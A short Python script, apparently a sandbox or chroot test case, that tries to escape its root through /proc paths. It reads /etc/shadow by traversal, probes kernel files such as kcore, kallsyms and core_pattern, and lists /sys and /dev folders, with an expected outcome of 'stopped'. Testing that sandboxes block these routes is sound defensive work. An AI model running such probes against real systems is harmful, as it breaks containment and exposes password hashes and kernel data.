"""Leaves its root by the doors that /proc has to roots, folders and files that are open."""

# ends: stopped

import os


def boot(here):
    token = here.args["token"]
    for start in ("self", "1", "thread-self"):
        for door in ("root", "cwd", "fd/0", "fd/1", "fd/3", "fd/4", "exe", "map_files"):
            for way in (token, "/../../.." + token, "/.." * 20 + "/etc/shadow"):
                try:
                    with open(f"/proc/{start}/{door}{way}", "rb") as file:
                        print("ESCAPED", door, file.read())
                except OSError:
                    pass
    for kernel in ("kcore", "kallsyms", "sysrq-trigger", "sys/kernel/core_pattern", "keys", "iomem"):
        try:
            with open(f"/proc/{kernel}", "rb") as file:
                print("ESCAPED", kernel, file.read(100))
        except OSError as error:
            print("refused", error)
    for folder in ("/sys/kernel", "/sys/fs/cgroup", "/dev/shm", "/dev/pts"):
        try:
            print("ESCAPED", folder, os.listdir(folder))
        except OSError as error:
            print("refused", error)
